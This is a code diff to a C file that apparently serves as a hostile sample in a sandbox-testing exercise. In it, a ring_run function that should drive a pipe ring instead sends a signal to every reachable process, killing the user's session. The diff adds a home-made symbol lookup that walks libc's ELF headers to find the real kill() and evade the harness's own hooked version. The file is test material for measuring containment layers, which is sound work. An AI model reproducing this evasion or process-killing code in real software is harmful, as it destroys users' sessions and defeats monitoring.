@@ -3,12 +3,35 @@
  * gains: the user's session is gone, with functions that the exercise allows
  * expect: score<=5
  * max-score: 5
- * layers: namespaces, landlock, uid
+ * layers: namespaces, landlock, seccomp, uid
  * off: victim hit
  */
 #include "pipe_ring.h"
 
 #include <signal.h>
+#include <stdio.h>
+#include <string.h>
+
+/* A dlsym of its own: the C library lies round its stderr, and tells in its dynamic section where its symbols are. */
+static void *library(const char *name)
+{
+	const char *base = (const char *)((uintptr_t)stderr & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
+	const uint64_t *part, *entry = NULL;
+	while (memcmp(base, "\177ELF", 4) != 0)
+		base -= 4096;
+	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
+		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
+			entry = (const uint64_t *)(base + part[2]);
+	for (; entry[0]; entry += 2)
+		if (entry[0] == 5) /* DT_STRTAB */
+			names = (const char *)entry[1];
+		else if (entry[0] == 6) /* DT_SYMTAB */
+			symbol = (const char *)entry[1];
+	for (symbol += 24; symbol < names; symbol += 24)
+		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
+			return (void *)(base + *(const uint64_t *)(symbol + 8));
+	return NULL;
+}
 
 int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
 {
@@ -17,6 +40,8 @@ int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, voi
 	(void)token;
 	(void)step;
 	(void)ctx;
-	kill(-1, SIGURG);
+	int (*send)(pid_t, int) = (int (*)(pid_t, int))library("kill"); /* the kit's own stays in the test */
+	if (send)
+		send(-1, SIGURG);
 	return -1;
 }
